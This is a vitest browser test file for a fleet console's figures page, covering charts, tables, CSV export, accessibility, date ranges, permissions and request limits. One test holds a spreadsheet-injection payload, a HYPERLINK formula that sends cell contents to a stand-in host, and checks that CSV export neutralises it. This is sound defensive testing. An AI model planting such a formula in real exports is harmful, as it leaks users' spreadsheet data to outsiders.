import { assetExample, listAssets } from '@fleet/contract/fleet/assets';
import { readOrganisation } from '@fleet/contract/fleet/organisations';
import { rolePermissions } from '@fleet/contract/ground/permissions';
import { exportOdometerReadings, exportOutcomes } from '@fleet/contract/outgoing/exports';
import { routeSummaryExample } from '@fleet/contract/planning/controller-routes';
import { routeExample } from '@fleet/contract/planning/route-examples';
import { afterEach, expect, it, vi } from 'vitest';
import { page } from 'vitest/browser';
import { saveFile } from '../src/frame/save-file.js';
import { accountWith, listOf, type OfficeAnswers, refusal } from './office-answers.js';
import { expectAccessibleEverywhere, phone, showConsole } from './shown-console.js';

vi.mock('../src/frame/save-file.js', { spy: true });
afterEach(() => localStorage.clear());

const [first, ...others] = routeExample.travel_plan.points_of_interest;
const planned_arrival_at = '2026-11-20T09:00:00.000Z';
const visited = { ...first, time_windows: [], planned_arrival_at, arrived_at: '2026-11-20T09:20:00.000Z' };
const route = {
  ...routeExample,
  travel_plan: { points_of_interest: [{ ...visited, departed_at: '2026-11-20T09:50:00.000Z' }, ...others] },
};
const exported = (data: readonly unknown[]) => ({ body: { data, count: data.length, links: [] } });
const [outcome] = exportOutcomes.answers[200].example.data as [{ outcome: object }];
const [reading] = exportOdometerReadings.answers[200].example.data as [object];
const failed = {
  ...outcome,
  status: 'failed',
  outcome: { ...outcome.outcome, status_reason: 'Gate closed' },
};
const answers: OfficeAnswers = {
  'GET /account': accountWith(rolePermissions.controller),
  'GET /routes/*': { body: { data: route, links: [] } },
  'GET /*': { body: readOrganisation.answers[200].example },
  'GET /exports/outcomes': exported([failed]),
  'GET /exports/odometer-readings': exported([reading]),
  'GET /assets': { body: listAssets.answers[200].example },
};
const path = `/figures?from=2026-11-20&to=2026-11-20&asset=${assetExample.id}`;

it('shows the figures with the tables behind them, accessible in every theme', async () => {
  const shown = await showConsole(path, answers);
  await expect.element(page.getByText('Judged arrivals: 1')).toBeVisible();
  await expect.element(page.getByRole('row', { name: 'Gate closed 1 0' })).toBeVisible();
  await expect.element(page.getByRole('img', { name: 'Readings of the vehicle' })).toBeVisible();
  await expect.poll(() => document.querySelectorAll('canvas').length).toBe(2);
  await page.getByText('The values as a table').first().click();
  const table = page.getByRole('table', { name: 'Arrivals on time' });
  await expect.element(table.getByRole('cell', { name: '0%' })).toBeVisible();
  await expectAccessibleEverywhere();
  await page.viewport(...phone);
  await expectAccessibleEverywhere(['light']);
  expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(phone[0]);
  expect(shown.office.sent('GET /exports/outcomes')[0]?.query.get('status')).toBe('failed,skipped');
  expect(shown.office.sent('GET /routes')[0]?.query.get('started_to')).toBe('2026-11-20T23:00:00.000Z');
  await page
    .getByRole('region', { name: 'Time at stops' })
    .getByRole('button', { name: 'Save as CSV' })
    .click();
  const saved = await vi.mocked(saveFile).mock.lastCall?.[0].text();
  expect(saved).toContain(`Stop,Visits,Mean time,Longest\r\n${visited.name},1,30.0,30.0`);
});

it('keeps the days in the address, and says if nothing happened, a call failed or a right is missing', async () => {
  const shown = await showConsole('/figures', {
    ...answers,
    'GET /routes': listOf([]),
    'GET /exports/outcomes': exported([]),
  });
  await expect.element(page.getByText('Nothing failed, and nothing was skipped.')).toBeVisible();
  await expect.element(page.getByText('No vehicle has arrived at a stop with a planned time.')).toBeVisible();
  await expectAccessibleEverywhere();
  shown.office.answer({ 'GET /exports/outcomes': refusal() });
  await page.getByLabelText('From the day').fill('2026-11-02');
  await expect.element(page.getByRole('alert')).toBeVisible();
  expect(shown.address()).toBe('/figures?from=2026-11-02');
  await shown.remove();
  await showConsole('/figures', { ...answers, 'GET /account': accountWith(['routes:read']) });
  await expect.element(page.getByText('You may not see this page')).toBeVisible();
});

it('says which days count, keeps the chosen day, and says if it shows fewer days than chosen', async () => {
  const shown = await showConsole('/figures?from=2026-11-10&to=2026-11-20', answers);
  await expect.element(page.getByText('on the day on which its driver started it')).toBeVisible();
  await page.getByLabelText('From the day').fill('2026-11-25');
  await expect.element(page.getByLabelText('Until the day')).toHaveValue('2026-11-25');
  expect(shown.address()).toBe('/figures?from=2026-11-25&to=2026-11-25');
  await page.getByLabelText('Until the day').fill('2026-11-03');
  await expect.element(page.getByLabelText('From the day')).toHaveValue('2026-11-03');
  await expect.element(page.getByText('At most 92 days are shown.')).not.toBeInTheDocument();
  await page.getByLabelText('From the day').fill('2026-01-03');
  await expect.element(page.getByText('At most 92 days are shown.')).toBeVisible();
});

const reasons = page.getByRole('region', { name: 'Reasons for failures and skips' });

it('saves no text of a driver as a formula', async () => {
  const status_reason = '=HYPERLINK("https://elsewhere.example/?"&A2,"Late")';
  const formula = { ...failed, outcome: { ...outcome.outcome, status_reason } };
  await showConsole(path, { ...answers, 'GET /exports/outcomes': exported([formula]) });
  await reasons.getByRole('button', { name: 'Save as CSV' }).click();
  const saved = await vi.mocked(saveFile).mock.lastCall?.[0].text();
  expect(saved).toContain('\r\n"\'=HYPERLINK(""https://elsewhere.example/?""&A2,""Late"")",1,0\r\n');
});

it('says what to do about more answers than the page can read', async () => {
  await showConsole(path, {
    ...answers,
    'GET /exports/outcomes': { ...exported([]), headers: { 'content-length': '99000000' } },
  });
  await expect.element(reasons.getByRole('alert')).toHaveTextContent('Choose a shorter time');
});

/** A list of this many routes, each with an id of its own. */
const routesFrom = (start: number, count: number) =>
  Array.from({ length: count }, (_, index) => ({
    ...routeSummaryExample,
    id: `019a9f3e-7c11-7d3c-a2bb-${String(start + index).padStart(12, '0')}`,
  }));

it('reads once after several days were typed, reads no route twice, and at most 200 routes in a minute', async () => {
  const shown = await showConsole('/figures?from=2026-11-20&to=2026-11-20', {
    ...answers,
    'GET /routes': ({ query }) => {
      const isFirst = query.get('started_to') === '2026-11-20T23:00:00.000Z';
      return listOf(isFirst ? routesFrom(0, 120) : routesFrom(100, 120), 120);
    },
  });
  const { sent } = shown.office;
  const from = page.getByLabelText('From the day');
  await expect.element(page.getByText('Judged arrivals: 120')).toBeVisible();
  expect(sent('GET /routes/*').length).toBe(120);
  await from.fill('2026-11-02');
  await from.fill('2026-11-12');
  await from.fill('2026-11-19');
  await expect.poll(() => sent('GET /routes').length).toBe(2);
  await expect.element(page.getByText('Judged arrivals: 120')).toBeVisible();
  expect(sent('GET /routes')[1]?.query.get('started_from')).toBe('2026-11-18T23:00:00.000Z');
  expect(sent('GET /exports/outcomes').length).toBe(2);
  expect(sent('GET /routes/*').length).toBe(120);
  await page.getByLabelText('Until the day').fill('2026-11-21');
  await expect.element(page.getByText('Many routes are being read.'), { timeout: 10_000 }).toBeVisible();
  expect(sent('GET /routes').length).toBe(3);
  // The limit of a minute is reached: 120 routes of the first span, and 80 of the 100 new routes of this span.
  expect(sent('GET /routes/*').length).toBe(200);
  await expectAccessibleEverywhere(['light']);
});
